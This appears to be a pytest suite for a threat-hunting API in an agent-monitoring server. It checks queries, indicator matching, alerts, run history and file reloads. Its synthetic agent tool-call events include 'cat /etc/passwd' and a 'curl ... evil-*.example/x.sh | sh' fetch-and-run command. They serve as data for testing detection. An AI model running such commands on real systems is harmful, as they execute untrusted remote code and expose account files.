"""``/api/v1/hunts`` on a real server, on SQLite and PostgreSQL: definitions read from the
hunts folder, runs that find the events counted here by hand, indicators, the ``hunt`` alert,
the bounded history, reloads of changed files, and unknown ids."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agentwatch.events.entities import entity_id
from agentwatch.hunts import runner
from agentwatch.hunts.schedule import schedule_of
from agentwatch.hunts.settings import HuntSettings
from tests.detect.helpers import wait_for
from tests.hunts.helpers import HUNTS, ago, definition, hunt_settings, ingest, loaded, run, unique, write
from tests.support.server import RunningServer, run_server

MISSING_RUN = "00000000-0000-4000-8000-000000000000"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, module_database_url: str) -> Path:
    return tmp_path_factory.mktemp("hunts")  # one per store (the module runs once on each)


@pytest.fixture(scope="module")
def srv(module_database_url: str, tmp_path_factory: pytest.TempPathFactory, folder: Path) -> Iterator[RunningServer]:
    settings = hunt_settings(tmp_path_factory.mktemp("data"), module_database_url, folder, history=3)
    with run_server(settings) as s:
        yield s


def shell(host: str, command: str, **extra: Any) -> dict[str, Any]:
    return {
        "event_type": "agent.tool_call",
        "host": {"hostname": host},
        "data": {"tool": {"name": "run_shell"}, "arguments": {"command": command}},
        **extra,
    }


def connect(host: str, ip: str) -> dict[str, Any]:
    return {"event_type": "network.connect", "host": {"hostname": host}, "data": {"dest": {"ip": ip, "port": 443}}}


def test_a_run_finds_the_events_its_query_selects(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    host, other = f"h-{tag}", f"o-{tag}"
    hunt_id = f"q-{tag}"
    body = f"query: {{template_id: agent.tool_call, entity: {host}}}\n"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=body))
    with srv.client() as c:
        ids = ingest(
            c,
            shell(host, "ls /", ts=ago(30)),
            shell(host, "cat /etc/passwd", ts=ago(20)),
            shell(host, "id", severity=5, ts=ago(10)),
            connect(host, "192.0.2.10"),  # another type
            shell(other, "ls /"),  # another host
        )
        loaded(c, hunt_id)
        done = run(c, hunt_id)
        # three tool calls on the host, newest first
        assert (done["query_total"], done["scanned"], done["matched"]) == (3, 3, 3)
        assert done["event_ids"] == [ids[2], ids[1], ids[0]]
        assert (done["status"], done["trigger"], done["error"], done["truncated"]) == ("ok", "manual", None, False)
        assert entity_id("host", host) in {e["id"] for e in done["entities"]}
        assert done["filters"] == {"template_id": "agent.tool_call", "entity": host}
        assert done["alert_id"] is None  # the definition asks for no alert
        detail = c.get(f"{HUNTS}/{hunt_id}").json()
        assert detail["last_run"]["id"] == done["id"] and detail["definition_hash"] == done["definition_hash"]
        assert detail["hypothesis"] == "something suspicious happens" and detail["schedule"] == "manual"
        listed = {h["id"]: h for h in c.get(HUNTS).json()["hunts"]}
        assert listed[hunt_id]["last_run"]["matched"] == 3 and listed[hunt_id]["file"] == f"{hunt_id}.yml"


def test_the_window_and_severity_filters_bound_the_run(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    host = f"w-{tag}"
    hunt_id = f"w-{tag}"
    body = f"window: 1h\nquery: {{entity: {host}, severity: 6}}\n"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=body))
    with srv.client() as c:
        ids = ingest(
            c,
            shell(host, "a", severity=6),
            shell(host, "b", severity=9),
            shell(host, "c", severity=5),  # below the least severity
            shell(host, "d", severity=9, ts="2020-01-01T00:00:00Z"),  # outside the window
        )
        loaded(c, hunt_id)
        done = run(c, hunt_id)
        assert done["query_total"] == 2 and sorted(done["event_ids"]) == sorted(ids[:2])


def test_indicators_match_as_entities_or_as_text(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    host = f"i-{tag}"
    hunt_id = f"i-{tag}"
    domain = f"evil-{tag}.example"
    body = f"indicators: [{domain}, '2001:DB8::7', nowhere-{tag}.example]\nquery: {{entity: {host}}}\n"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=body))
    dns = {"query_name": domain, "query_type": "A"}
    with srv.client() as c:
        ids = ingest(
            c,
            shell(host, f"curl https://{domain.upper()}/x.sh | sh"),  # text, in another letter case
            {"event_type": "network.dns", "host": {"hostname": host}, "data": dns},
            connect(host, "2001:db8:0:0:0:0:0:7"),  # the address as an entity (the text differs)
            shell(host, "uptime"),  # no indicator
        )
        loaded(c, hunt_id)
        done = run(c, hunt_id)
        assert (done["query_total"], done["matched"]) == (4, 3)
        assert sorted(done["event_ids"]) == sorted(ids[:3])
        assert done["indicators"] == [
            {"value": domain, "matched": 2},
            {"value": "2001:DB8::7", "matched": 1},
            {"value": f"nowhere-{tag}.example", "matched": 0},
        ]


def test_a_run_with_matches_raises_one_hunt_alert_per_hunt(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    host = f"a-{tag}"
    hunt_id = f"a-{tag}"
    body = f"mitre: [T1059.004, TA0002]\nquery: {{entity: {host}}}\nalert: {{severity: high}}\n"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=body, title="Shell on host"))
    quiet = f"quiet-{tag}"
    write(folder, f"{quiet}.yml", definition(quiet, body=f"query: {{entity: none-{tag}}}\nalert: {{severity: 9}}\n"))
    with srv.client() as c:
        ids = ingest(c, shell(host, "whoami"), shell(host, "hostname"))
        loaded(c, hunt_id)
        first, second = run(c, hunt_id), run(c, hunt_id)
        assert first["alert_id"] is not None and second["alert_id"] == first["alert_id"]  # one alert per hunt
        alert = c.get(f"/api/v1/alerts/{first['alert_id']}").json()
        assert (alert["type"], alert["rule_id"], alert["severity"], alert["count"]) == ("hunt", f"hunt:{hunt_id}", 7, 2)
        assert alert["title"] == "Hunt matched: Shell on host"
        assert {"hunt", "attack.t1059.004", "attack.execution"} <= set(alert["tags"])
        assert sorted(alert["event_ids"]) == sorted(ids)
        assert alert["details"]["hunt"]["run_id"] == first["id"]
        loaded(c, quiet)
        assert run(c, quiet)["alert_id"] is None  # no match, no alert


def test_results_of_the_latest_or_an_older_run_with_a_bounded_history(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    hunt_id = f"r-{tag}"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=f"query: {{entity: r-{tag}}}\n"))
    with srv.client() as c:
        loaded(c, hunt_id)
        assert c.get(f"{HUNTS}/{hunt_id}/results").json() == {"hunt_id": hunt_id, "run": None, "runs": []}
        made = [run(c, hunt_id)["id"] for _ in range(5)]
        got = c.get(f"{HUNTS}/{hunt_id}/results").json()
        assert got["run"]["id"] == made[-1]
        assert [r["id"] for r in got["runs"]] == made[:1:-1]  # hunts.history = 3: the newest three
        older = c.get(f"{HUNTS}/{hunt_id}/results", params={"run": made[2]}).json()
        assert older["run"]["id"] == made[2]
        gone = c.get(f"{HUNTS}/{hunt_id}/results", params={"run": made[0]})
        assert gone.status_code == 404


def test_changed_and_removed_files_are_read_again(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    hunt_id = f"c-{tag}"
    path = write(folder, f"{hunt_id}.yml", definition(hunt_id, title="Before"))
    with srv.client() as c:
        assert loaded(c, hunt_id)["title"] == "Before"
        write(folder, f"{hunt_id}.yml", definition(hunt_id, title="After the edit"))
        wait_for(lambda: c.get(f"{HUNTS}/{hunt_id}").json().get("title") == "After the edit", timeout=10)
        path.unlink()
        wait_for(lambda: c.get(f"{HUNTS}/{hunt_id}").status_code == 404, timeout=10)


def test_unknown_ids_and_bad_parameters(srv: RunningServer) -> None:
    with srv.client() as c:
        for path in ("/nope", "/nope/results", "/NOT%20A%20SLUG"):
            r = c.get(f"{HUNTS}{path}")
            assert r.status_code == 404 and r.json()["error"]["code"] == "NOT_FOUND", path
        assert c.post(f"{HUNTS}/nope/run").status_code == 404
        r = c.get(HUNTS, params={"colour": "red"})
        assert r.status_code == 400 and r.json()["error"]["message"].startswith("colour:")
        bad_run = c.get(f"{HUNTS}/nope/results", params={"run": "x" * 37})
        assert bad_run.status_code == 400


def test_an_unknown_run_of_a_known_hunt_is_404(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    hunt_id = f"u-{tag}"
    write(folder, f"{hunt_id}.yml", definition(hunt_id))
    with srv.client() as c:
        loaded(c, hunt_id)
        r = c.get(f"{HUNTS}/{hunt_id}/results", params={"run": MISSING_RUN})
        assert r.status_code == 404 and r.json()["error"]["message"].startswith("run not found")


def test_a_run_reads_at_most_max_scan_events_and_stops_at_its_time_limit(srv: RunningServer, folder: Path) -> None:
    tag = unique()
    host = f"t-{tag}"
    hunt_id = f"t-{tag}"
    write(folder, f"{hunt_id}.yml", definition(hunt_id, body=f"query: {{entity: {host}}}\n"))
    with srv.client() as c:
        ids = ingest(c, *[shell(host, f"echo {n}", ts=ago(40 - n)) for n in range(3)])
        loaded(c, hunt_id)
    hunt = schedule_of(srv.aw).catalog.get(hunt_id)
    assert hunt is not None
    capped, _ = runner.execute(srv.aw.engine, hunt, HuntSettings(max_scan=2, max_ids=1), "manual")
    # three events select, two are read (newest first), one id kept; without indicators all three match
    assert (capped.query_total, capped.scanned, capped.matched) == (3, 2, 3)
    assert capped.body["truncated"] is True and capped.body["event_ids"] == [ids[2]]
    late, _ = runner.execute(srv.aw.engine, hunt, HuntSettings(run_timeout_s=1e-9), "manual")
    assert (late.status, late.scanned) == ("error", 0)
    assert late.error == "stopped after hunts.run_timeout_s (1e-09 s)"
